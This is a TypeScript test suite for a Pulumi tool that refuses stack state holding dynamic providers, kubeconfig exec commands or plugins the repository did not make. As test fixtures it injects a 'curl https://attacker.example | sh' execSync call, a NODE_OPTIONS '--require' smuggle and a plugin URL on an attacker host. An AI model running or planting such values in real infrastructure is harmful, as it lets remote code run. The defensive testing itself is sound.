import * as assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as path from "node:path";
import { PROJECT, ROOT } from "../simulator";
import { canonicalJson, codeInState, execHash, sha256 } from "../state/codeInState";
import { allowedPlugins, type KnownCodeFile, readKnownCode, verifyState, withCode } from "../state/knownCode";
import { madeIn, stackExports } from "../state/madeByThisCommit";
import { verifyStateCommand } from "../state/verifyStateCommand";
import { tempDir } from "./credentialPlugins";
import { loadWorkflow, STATE_VERIFICATION_STEP } from "./trustModel";

/**
 * A stack's state as `pulumi stack export --show-secrets` writes it after an up: the program's
 * resources, and the default providers the engine adds for every package a resource uses, each with
 * the version it ran (pulumi/pulumi pkg/resource/deploy/providers/registry.go keeps `version` among
 * a provider's inputs). Secrets in such an export are `{<sig>: <secret marker>, plaintext: <JSON>}`
 * (pulumi/pulumi sdk/go/common/apitype/core.go, SecretV1); without --show-secrets, `ciphertext`.
 */
type Export = {
	version: number;
	deployment: { resources: { urn: string; type: string; inputs: any; outputs: any; provider?: string }[] };
};
const SIG = "4dabf18193072939515e22adb298388d";
const SECRET = "1b47061264138c4ac30d75fd1eb44270";
const LOCK = path.join(ROOT, "package-lock.json");
const PLUGINS = allowedPlugins(LOCK);

function withDefaultProviders(state: Export, stack: string): Export {
	const lock = JSON.parse(fs.readFileSync(LOCK, "utf8")).packages;
	// A default provider for each package a resource uses without an explicit provider of its own.
	const used = new Set(
		state.deployment.resources
			.filter((r) => !r.provider && !r.type.startsWith(`${PROJECT}:`) && !r.type.startsWith("pulumi:"))
			.map((r) => r.type.split(":")[0]),
	);
	const defaults = [...used]
		.filter((p) => p !== "pulumi" && !p.startsWith("pulumi:"))
		.flatMap((p) => {
			const version = p === "pulumi-nodejs" ? undefined : lock[`node_modules/@pulumi/${p}`]?.version;
			if (p !== "pulumi-nodejs" && !version) return [];
			return [
				{
					urn: `urn:pulumi:${stack}::project::pulumi:providers:${p}::default${version ? `_${version.replaceAll(".", "_")}` : ""}`,
					type: `pulumi:providers:${p}`,
					inputs: version ? { version } : {},
					outputs: version ? { version } : {},
				},
			];
		});
	return { ...state, deployment: { resources: [...defaults, ...state.deployment.resources] } };
}

describe("code in a stack's state: only what this repository made runs (npm run verify-state)", function () {
	this.timeout(60_000);
	const known = readKnownCode();
	/** Each of the repository's stacks, as its up would leave its state. */
	const states = new Map<string, Export>();
	let made: ReturnType<typeof madeIn>;

	before(async () => {
		// What npm run state-code reads: each stack file's up, under the simulator.
		const { exports } = await stackExports();
		made = madeIn([...exports.values()]);
		for (const [stack, state] of exports) states.set(stack, withDefaultProviders(state as Export, stack));
	});

	const first = () => structuredClone([...states.values()][0]);
	const holding = (s: Export, pick: (r: any) => boolean) => {
		const r = s.deployment.resources.find(pick);
		assert.ok(r, "the program declares such a resource");
		return r;
	};
	const dynamic = (r: any) => typeof r.inputs?.__provider === "string";
	const kubernetesProvider = (r: any) => r.type === "pulumi:providers:kubernetes";

	it("lists every piece of code this commit makes for the repository's stacks (npm run state-code adds what is missing)", () => {
		const listed = new Set(known.code.map((c) => `${c.kind} ${c.sha256}`));
		const missing = made.code.filter((c) => !listed.has(`${c.kind} ${c.sha256}`)).map((c) => `${c.kind} at ${c.urn} ${c.at}`);
		assert.deepEqual(missing, [], "run `npm run state-code` and commit state/known-code.json");
		assert.ok(
			made.code.some((c) => c.kind === "dynamic provider") && made.code.some((c) => c.kind === "exec command"),
			"the stacks hold both kinds",
		);
	});

	it("passes the state of each stack's up, its default providers' plugins included", () => {
		for (const [stack, state] of states) assert.deepEqual(verifyState(state, known, PLUGINS), [], stack);
		assert.deepEqual(
			PLUGINS,
			["azure-native", "docker", "kubernetes", "pulumi", "pulumi-nodejs"].filter((p) => PLUGINS.includes(p)),
		);
	});

	it("refuses a dynamic provider this repository did not make, naming the resource", () => {
		const state = first();
		const r = holding(state, dynamic);
		r.outputs.__provider = `${r.outputs.__provider}\nrequire("child_process").execSync("curl https://attacker.example | sh");`;
		const problems = verifyState(state, known, PLUGINS);
		assert.equal(problems.length, 1, problems.join("\n"));
		assert.ok(
			problems[0].startsWith(`${r.urn}: a dynamic provider at outputs.__provider (sha256 ${sha256(r.outputs.__provider)})`),
		);
	});

	it("refuses an exec command changed in the kubeconfig's text, and one given an environment of its own", () => {
		const state = first();
		const k = holding(state, kubernetesProvider);
		const kubeconfig = JSON.parse(k.inputs.kubeconfig);
		kubeconfig.users[0].user.exec.command = "bash";
		k.inputs.kubeconfig = JSON.stringify(kubeconfig);
		const r = holding(state, (x) => dynamic(x) && x.inputs.credential);
		r.outputs.credential = { ...r.outputs.credential, env: [{ name: "NODE_OPTIONS", value: "--require /tmp/x.js" }] };
		const problems = verifyState(state, known, PLUGINS);
		assert.deepEqual(
			problems.map((p) => p.split(" (sha256")[0]).sort(),
			[
				`${k.urn}: an exec command at inputs.kubeconfig (its text).users[0].user.exec`,
				`${r.urn}: an exec command at outputs.credential`,
			].sort(),
		);
	});

	it("finds exec commands in a YAML kubeconfig and inside a secret, and refuses a secret it cannot read", () => {
		const state = first();
		const k = holding(state, kubernetesProvider);
		const kubeconfig = JSON.parse(k.inputs.kubeconfig);
		const exec = kubeconfig.users[0].user.exec;
		// The same exec entry, as YAML and as a shown secret: known, so nothing to say.
		const yaml = `apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    exec:\n      command: ${exec.command}\n      apiVersion: ${exec.apiVersion}\n      args: ${JSON.stringify(exec.args)}\n      interactiveMode: Never\n      provideClusterInfo: false\n`;
		k.inputs.kubeconfig = { [SIG]: SECRET, plaintext: JSON.stringify(yaml) };
		assert.deepEqual(verifyState(state, known, PLUGINS), []);
		assert.deepEqual(
			codeInState(state)
				.code.filter((c) => c.urn === k.urn && c.sha256 === execHash(exec))
				.map((c) => c.at),
			["inputs.kubeconfig (its text).users[0].user.exec", "outputs.kubeconfig (its text).users[0].user.exec"],
			"found in the YAML inside the secret, as in the outputs' JSON",
		);
		// Changed inside the secret: found. Encrypted: cannot be checked, so refused.
		k.inputs.kubeconfig = { [SIG]: SECRET, plaintext: JSON.stringify(yaml.replace(`command: ${exec.command}`, "command: sh")) };
		assert.match(verifyState(state, known, PLUGINS).join("\n"), /an exec command at inputs\.kubeconfig \(its text\)/);
		k.inputs.kubeconfig = { [SIG]: SECRET, ciphertext: "AAABAJ2x" };
		assert.deepEqual(verifyState(state, known, PLUGINS), [
			`${k.urn}: inputs.kubeconfig is encrypted, so what it runs cannot be checked: export the state with --show-secrets`,
		]);
	});

	it("refuses a provider plugin of a package this project does not use, and one from anywhere but Pulumi's releases", () => {
		const state = first();
		const azure = holding(state, (r) => r.type === "pulumi:providers:azure-native");
		azure.inputs.pluginDownloadURL = "https://attacker.example/plugins";
		state.deployment.resources.push({
			urn: "urn:pulumi:dev::project::pulumi:providers:command::default_1_0_0",
			type: "pulumi:providers:command",
			inputs: { version: "1.0.0" },
			outputs: {},
		});
		assert.deepEqual(verifyState(state, known, PLUGINS), [
			`${azure.urn}: a provider plugin from https://attacker.example/plugins, not from Pulumi's own releases`,
			`urn:pulumi:dev::project::pulumi:providers:command::default_1_0_0: a provider plugin of package command, which this project does not use (it uses ${PLUGINS.join(", ")})`,
		]);
	});

	it("passes what an earlier release listed made, and keeps every entry when the list grows", () => {
		const state = first();
		const r = holding(state, dynamic);
		r.outputs.__provider = "exports.handler = { /* the provider as an earlier release serialized it */ };";
		const earlier: KnownCodeFile = {
			...known,
			code: [...known.code, { sha256: sha256(r.outputs.__provider), kind: "dynamic provider", what: ["x"], added: "2026-01-01" }],
		};
		assert.deepEqual(verifyState(state, earlier, PLUGINS), []);
		const grown = withCode(earlier, codeInState(first()), new Map(), "2026-12-31");
		assert.deepEqual(grown.code, earlier.code, "what it holds already is not added again, and nothing goes");
		assert.equal(canonicalJson({ b: [2, { d: 1, c: 0 }], a: 1 }), '{"a":1,"b":[2,{"c":0,"d":1}]}');
	});

	it("deploy-stack.yml's step exports the stack into the runner's temporary directory, verifies it, removes it, and passes a stack with no state yet", () => {
		const step = loadWorkflow("deploy-stack.yml").jobs.up.steps.find((s: any) => s.name === STATE_VERIFICATION_STEP);
		const dir = tempDir("verify-step-");
		try {
			// The Pulumi CLI as the step uses it: `stack ls --json` lists STACKS, `stack export` writes
			// the state this test hands it (STATE); npm runs this checkout's verify-state.
			const bin = path.join(dir.dir, "bin");
			fs.mkdirSync(bin);
			const log = path.join(dir.dir, "calls");
			fs.writeFileSync(
				path.join(bin, "pulumi"),
				`#!/bin/bash\necho "$*" >> "${log}"\nif [ "$1 $2" = "stack ls" ]; then printf '%s' "$STACKS"; fi\nif [ "$1 $2" = "stack export" ]; then for ((i=1;i<=$#;i++)); do if [ "\${!i}" = --file ]; then j=$((i+1)); cp "$STATE" "\${!j}"; fi; done; fi\n`,
				{ mode: 0o755 },
			);
			fs.writeFileSync(
				path.join(bin, "npm"),
				`#!/bin/bash\n# npm run --silent verify-state -- <file>\nexec "${process.execPath}" -r tsx/cjs "${path.join(ROOT, "scripts", "verify-state.ts")}" "\${@:5}"\n`,
				{ mode: 0o755 },
			);
			const tmp = path.join(dir.dir, "runner-temp");
			fs.mkdirSync(tmp);
			const bad = first();
			holding(bad, dynamic).inputs.__provider = "exports.handler = {};";
			const badFile = path.join(dir.dir, "bad.json");
			fs.writeFileSync(badFile, JSON.stringify(bad));
			const run = (stacks: string) =>
				spawnSync("bash", ["-e", "-c", step.run], {
					cwd: ROOT,
					encoding: "utf8",
					env: { PATH: `${bin}:/usr/bin:/bin`, RUNNER_TEMP: tmp, STACK: "dev", STACKS: stacks, STATE: badFile },
				});
			const refused = run(JSON.stringify([{ name: "acme/dev" }]));
			assert.equal(refused.status, 1, refused.stdout + refused.stderr);
			assert.match(refused.stderr, /holds code this repository did not make/);
			assert.deepEqual(fs.readdirSync(tmp), [], "the export, secrets and all, is gone");
			assert.match(
				fs.readFileSync(log, "utf8"),
				/^stack export --stack dev --show-secrets --file .*\/runner-temp\/state\.json$/m,
			);
			const fresh = run("[]");
			assert.equal(fresh.status, 0, fresh.stderr);
			assert.match(fresh.stdout, /stack dev has no state yet: nothing to verify/);
		} finally {
			dir.remove();
		}
	});

	describe("npm run verify-state -- <file>", () => {
		let dir: { dir: string; remove: () => void };
		before(() => {
			dir = tempDir("verify-state-");
		});
		after(() => dir.remove());
		const run = (...args: string[]) => {
			let stdout = "";
			let stderr = "";
			const status = verifyStateCommand(args, {
				stdout: { write: (t: string) => (stdout += t) },
				stderr: { write: (t: string) => (stderr += t) },
			});
			return { status, stdout, stderr };
		};

		it("exits 0 on a state of this repository's code, 1 naming each resource on another, 2 on a usage error", () => {
			const good = path.join(dir.dir, "good.json");
			fs.writeFileSync(good, JSON.stringify(first()));
			const ok = run(good);
			assert.equal(ok.status, 0, ok.stderr);
			const state = first();
			const r = holding(state, dynamic);
			r.inputs.__provider = "exports.handler = {};";
			const bad = path.join(dir.dir, "bad.json");
			fs.writeFileSync(bad, JSON.stringify(state));
			const refused = run(bad);
			assert.equal(refused.status, 1);
			assert.match(
				refused.stderr,
				new RegExp(
					`holds code this repository did not make.*\\n  ${r.urn.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: a dynamic provider at inputs\\.__provider`,
					"s",
				),
			);
			assert.equal(run().status, 2);
			const notState = path.join(dir.dir, "not-state.json");
			fs.writeFileSync(notState, "{}");
			const wrong = run(notState);
			assert.equal(wrong.status, 2);
			assert.match(wrong.stderr, /not a Pulumi state: no deployment\.resources/);
		});

		it("is that command's exit code as a process, as the workflow step reads it", () => {
			const state = first();
			holding(state, dynamic).inputs.__provider = "exports.handler = {};";
			const bad = path.join(dir.dir, "bad-process.json");
			fs.writeFileSync(bad, JSON.stringify(state));
			const res = spawnSync(process.execPath, ["-r", "tsx/cjs", path.join(ROOT, "scripts", "verify-state.ts"), bad], {
				cwd: ROOT,
				encoding: "utf8",
			});
			assert.equal(res.status, 1, res.stderr);
			assert.match(res.stderr, /holds code this repository did not make/);
		});
	});
});
